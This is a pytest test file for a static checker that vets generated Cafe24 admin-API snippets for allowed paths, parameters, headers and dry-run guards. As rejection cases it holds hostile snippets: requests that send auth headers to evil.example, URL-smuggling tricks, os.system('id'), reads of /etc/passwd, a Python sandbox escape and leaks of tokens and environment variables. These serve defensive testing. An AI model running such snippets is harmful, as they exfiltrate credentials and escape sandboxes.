"""The static check: what it resolves, what it refuses, and that every template of the catalogue passes it."""

from collections.abc import Sequence
from datetime import date

import pytest
from codegen_code import HEAD

from cafe24_pipelines.codegen.asked import read_question
from cafe24_pipelines.codegen.check import Checked, check
from cafe24_pipelines.codegen.lookup import callable_by_code, find, served_by_sandbox
from cafe24_pipelines.codegen.plan import make_plan
from cafe24_pipelines.codegen.templates import render
from cafe24_pipelines.knowledge.catalogue import operations
from cafe24_pipelines.knowledge.operations import ApiOperation

PERIOD = '{"start_date": "2026-10-01", "end_date": "2026-10-31"}'


def failed(checked: Checked) -> set[str]:
    return {c.name for c in checked.checks if c.ok is False}


def ids(checked: Checked) -> list[str]:
    return [op.id.replace("/api/v2/admin", "") for op in checked.operations]


@pytest.mark.parametrize(
    "code",
    [
        'httpx.get(API_URL + "/api/v2/admin/products", params={"limit": 100}, headers=HEADERS)',
        'httpx.get(f"{API_URL}/api/v2/admin/products", headers=HEADERS)',
        'httpx.request("GET", "/".join([API_URL, "api/v2/admin", "products"]), headers=HEADERS)',
        'httpx.get("{}/api/v2/admin/{name}".format(API_URL, name="products"), headers=HEADERS)',
        'base = API_URL + "/api/v2"\n'
        'for name in ["products"]:\n    httpx.get(base + "/admin/" + name, headers=HEADERS)',
        'def call(c, path, **more):\n    return c.get(path, params=dict(more, limit=10), headers=HEADERS)\n'
        'with httpx.Client(base_url=API_URL) as c:\n    call(c, "/api/v2/admin/products", display="T")',
        'def ask(path, page=lambda n: {"offset": n}):\n'
        '    return httpx.get(API_URL + path, params={**page(0), "limit": 5}, headers={**HEADERS})\n'
        'ask("/api/v2/admin/products")',
        'kind = "products" if time.time() > 1 else "products"\n'
        'httpx.get(f"{API_URL}/api/v2/admin/{kind}", headers=HEADERS)',
    ],
)  # fmt: skip
def test_addresses_are_folded(code: str) -> None:
    checked = check(HEAD + code)
    assert checked.ok, checked.problems
    assert ids(checked) == ["GET /products"]


def test_ids_known_at_run_time_fit_path_arguments_alone() -> None:
    both = HEAD + (
        f'rows = httpx.get(API_URL + "/api/v2/admin/orders", params={PERIOD}, headers=HEADERS).json()["orders"]\n'
        'for row in rows:\n    number = row["order_id"]\n'
        '    httpx.get(f"{API_URL}/api/v2/admin/orders/{number}/items", headers=HEADERS)'
    )
    assert ids(check(both)) == ["GET /orders", "GET /orders/{order_id}/items"]
    assert failed(check(both.replace("orders/{number}/items", "{number}/items"))) == {"path"}
    assert failed(check(both.replace("orders/{number}/items", "orders/x{number}/items"))) == {"path"}


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ('httpx.get(API_URL + "/api/v2/admin/product", headers=HEADERS)', "path"),
        ('httpx.post(API_URL + "/api/v2/admin/products/count", headers=HEADERS)', "path"),
        ('httpx.get("https://evil.example/api/v2/admin/products", headers=HEADERS)', "path"),
        ('url = os.environ.get("CAFE24_API_URL", "https://evil.example")\n'
         'httpx.get(url + "/api/v2/admin/products", headers=HEADERS)', "path"),
        ('httpx.get(API_URL + ".evil.example/api/v2/admin/products", headers=HEADERS)', "path"),
        ('httpx.get(API_URL + "@evil.example/api/v2/admin/products", headers=HEADERS)', "path"),
        ('httpx.get(API_URL + "/api/v2/admin/../admin/products", headers=HEADERS)', "path"),
        ('httpx.get(API_URL + "/api/v2/admin/products?bogus=1", headers=HEADERS)', "path"),
        ('httpx.post(API_URL + "/api/v2/oauth/token", headers=HEADERS)', "path"),
        ('httpx.get(API_URL + "/api/v2/admin/" + str(time.time()), headers=HEADERS)', "path"),
        ('httpx.get(API_URL + "/api/v2/admin/products", params={"colour": "red"}, headers=HEADERS)', "parameters"),
        ('p = {}\ndef add(d):\n    d["colour"] = 1\nadd(p)\n'
         'httpx.get(API_URL + "/api/v2/admin/products", params=p, headers=HEADERS)', "parameters"),
        ('p = {str(time.time()): 1}\nhttpx.get(API_URL + "/api/v2/admin/products", params=p, headers=HEADERS)',
         "parameters"),
        ('httpx.get(API_URL + "/api/v2/admin/products", params={"embed": "secrets"}, headers=HEADERS)', "parameters"),
        ('httpx.get(API_URL + "/api/v2/admin/points", params={"member_id": "a"}, headers=HEADERS)', "required"),
        ('httpx.get(API_URL + "/api/v2/admin/products", params={"limit": 5000}, headers=HEADERS)', "limits"),
        ('page = {"since_product_no": 0, "offset": 5}\n'
         'httpx.get(API_URL + "/api/v2/admin/products", params=page, headers=HEADERS)', "limits"),
        ('httpx.get(API_URL + "/api/v2/admin/products")', "headers"),
        ('httpx.get(API_URL + "/api/v2/admin/products", headers={"Authorization": f"Bearer {TOKEN}"})', "headers"),
        ('httpx.get(API_URL + "/api/v2/admin/products", headers={**HEADERS, "X-Copy": "1"})', "headers"),
        ('httpx.get(API_URL + "/api/v2/admin/products", headers=HEADERS, follow_redirects=True)', "calls"),
        ('httpx.Client(proxy="http://evil.example")', "calls"),
        ('list(map(httpx.get, [API_URL]))', "calls"),
        ('print("안녕")', "calls"),
    ],
)  # fmt: skip
def test_wrong_calls_are_found(code: str, rule: str) -> None:
    assert rule in failed(check(HEAD + code)), check(HEAD + code).checks


GOOD = 'httpx.get(API_URL + "/api/v2/admin/products", headers=HEADERS)\n'


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("import subprocess", "imports"), ("import socket", "imports"), ("from os import system", "imports"),
        ("import json.codecs", "imports"), ("import importlib", "imports"), ("os.system('id')", "imports"),
        ("httpx.HTTPTransport(uds='/x')", "imports"), ("import json\njson.codecs.open('x')", "imports"),
        ("import statistics\nstatistics.sys.modules", "imports"), ("eval('1')", "names"), ("exec('1')", "names"),
        ("open('/etc/passwd').read()", "names"), ("__import__('os')", "names"),
        ("getattr(os, 'sys' + 'tem')", "names"),
        ("().__class__.__base__.__subclasses__()", "names"), ("'{0.__class__}'.format(1)", "names"),
        ("import os as o\nprint(o.environ)", "imports"), ("from os import environ as e\nprint(e)", "imports"),
        ("raise SystemExit(str(HEADERS))", "printing"), ("assert False, HEADERS", "printing"),
        ("list(map(print, HEADERS.values()))", "printing"), ("print('', end=str(HEADERS))", "printing"),
        ("c = httpx.Client(headers=HEADERS)\nprint(dict(c.headers))", "printing"),
        ("r = httpx.get(API_URL + '/api/v2/admin/shops', headers=HEADERS)\nprint(r.request.headers)", "names"),
        ("httpx.get(API_URL + '/api/v2/admin/products', params={'product_tag': HEADERS['Authorization']}, "
         "headers=HEADERS)", "environment"),
        ("from collections import Counter\nrows = httpx.get(API_URL + '/api/v2/admin/carts', "
         "params={'member_id': 'a'}, headers=HEADERS).json()['carts']\n"
         "print(Counter(r['member_id'] for r in rows).most_common(3))", "printing"),
        ("m = os\nm.system('id')", "names"), ("print(os.environ)", "environment"),
        ("print(dict(os.environ.items()))", "environment"), ("print(os.environ['HOME'])", "environment"),
        ("print(TOKEN)", "environment"), ("x = TOKEN\nprint(x)", "environment"), ("print(HEADERS)", "printing"),
        ("print([v for v in HEADERS.values()])", "printing"), ("class A: pass", "form"),
        ("def f():\n    global API_URL\n    API_URL = 'x'\nf()", "form"), ("async def f(): pass", "form"),
        ("os.environ['PATH'] = 'x'", "environment"),
        ("r = httpx.get(API_URL + '/api/v2/admin/orders/1/buyer', headers=HEADERS).json()\nprint(r)", "printing"),
        ("r = httpx.get(API_URL + '/api/v2/admin/orders/1/buyer', headers=HEADERS).json()['buyer']\n"
         "print(f\"{r['name']}님 {r.get('cellphone')}\")", "printing"),
        ("print(httpx.get(API_URL + '/api/v2/admin/products', headers=HEADERS).text)", "printing"),
    ],
)  # fmt: skip
def test_what_a_snippet_may_not_do(code: str, rule: str) -> None:
    assert rule in failed(check(HEAD + GOOD + code)), check(HEAD + GOOD + code).checks


def write(body: str, guard: str = "if not DRY_RUN:") -> str:
    return HEAD + (
        f'DRY_RUN = True\n{guard}\n    httpx.post(API_URL + "/api/v2/admin/points", json={body}, headers=HEADERS)\n'
    )


def test_writes_have_their_envelope_and_are_dry_at_first() -> None:
    fields = '{"member_id": "x", "amount": 10, "type": "increase"}'
    assert check(write(f'{{"shop_no": 1, "request": {fields}}}')).ok
    assert check(write(f'{{"shop_no": 1, "requests": [{fields}]}}')).ok
    assert failed(check(write(fields))) == {"envelope"}
    assert failed(check(write('{"shop_no": 1, "request": {"member_id": "x"}}'))) == {"required"}
    assert failed(check(write(f'{{"request": {{**{fields}, "bonus": 1}}}}'))) == {"parameters"}
    live = write(f'{{"request": {fields}}}', guard="if True:")
    assert failed(check(live)) == {"dry_run"}
    assert failed(check(write(f'{{"request": {fields}}}').replace("DRY_RUN = True", "DRY_RUN = False"))) == {
        "dry_run"
    }


def test_a_branch_can_not_switch_a_function_behind_its_back() -> None:
    code = HEAD + (
        'DRY_RUN = True\nPATH = "/api/v2/admin/products/1"\n'
        'def drop():\n    if DRY_RUN:\n        return\n    httpx.delete(API_URL + PATH, headers=HEADERS)\n'
    )  # fmt: skip
    assert check(code + "drop()\n").ok
    assert failed(check(code + "if time.time() > 1:\n    DRY_RUN = False\n    drop()\n")) == {"dry_run"}
    assert failed(check(code + "for _ in [1]:\n    DRY_RUN = False\n    drop()\n")) == {"dry_run"}
    assert failed(check(code + "try:\n    DRY_RUN = False\n    drop()\nfinally:\n    pass\n")) == {"dry_run"}
    assert failed(check(code + 'if time.time() > 1:\n    PATH = "/x"\n    drop()\n')) == {"path"}


def test_what_the_catalogue_does_not_list_is_not_claimed() -> None:
    code = HEAD + (
        'DRY_RUN = True\nif not DRY_RUN:\n'
        '    httpx.post(API_URL + "/api/v2/admin/suppliers/users/a/regionalsurcharges", '
        'json={"request": {"anything": 1}}, headers=HEADERS)\n'
    )  # fmt: skip
    told = {c.name: c for c in check(code).checks}
    assert told["parameters"].ok is None and "확인하지 못" in told["parameters"].detail


@pytest.mark.parametrize(
    "code", ["", "def", "x = (" * 500, "\0", "f(" * 3000 + ")" * 3000, "x = 1\n" * 9000, "# " + "가" * 40_000]
)
def test_whatever_it_is_given_it_answers(code: str) -> None:
    assert not check(code).ok


def test_a_loop_that_grows_ends() -> None:
    nested = "".join(f"{'    ' * i}for i{i} in range(9):\n" for i in range(15)) + "    " * 15 + "pass\n"
    calls = "".join(f"def f{i}(x):\n    f{i + 1}(x + 'a'); f{i + 1}(x + 'b')\n" for i in range(30))
    assert not check(HEAD + nested + calls + "def f30(x): pass\nf0('')\n").ok


def templates_pass(chosen: Sequence[ApiOperation]) -> None:
    asked = read_question("목록", date(2026, 10, 31))
    for op in chosen:
        plan = make_plan(op, asked, "sandbox")
        checked = check(render(plan))
        assert checked.ok, (op.id, checked.problems)
        assert set(checked.operations) == set(plan.operations), op.id


def test_templates_pass_and_call_what_they_say() -> None:
    templates_pass([op for op in operations() if callable_by_code(op)][::9])


@pytest.mark.slow
def test_every_template_of_the_catalogue_passes() -> None:
    chosen = [op for op in operations() if callable_by_code(op)]
    assert len(chosen) == 537 and sum(op.method == "GET" for op in chosen) == 269
    templates_pass(chosen)


def test_paths_are_found_as_the_server_would() -> None:
    admin = ("api", "v2", "admin")
    count, detail = find("GET", "", (*admin, "orders", "count")), find("GET", "", (*admin, "orders", None))
    assert count is not None and count.id.endswith("/orders/count")
    assert detail is not None and detail.id.endswith("/orders/{order_id}")
    assert find("GET", "", (*admin, None)) is None
    assert served_by_sandbox(detail)
    benefits = find("GET", "", (*admin, "orders", "benefits"))
    assert benefits is not None and not served_by_sandbox(benefits)  # the sandbox would take it for an order's id
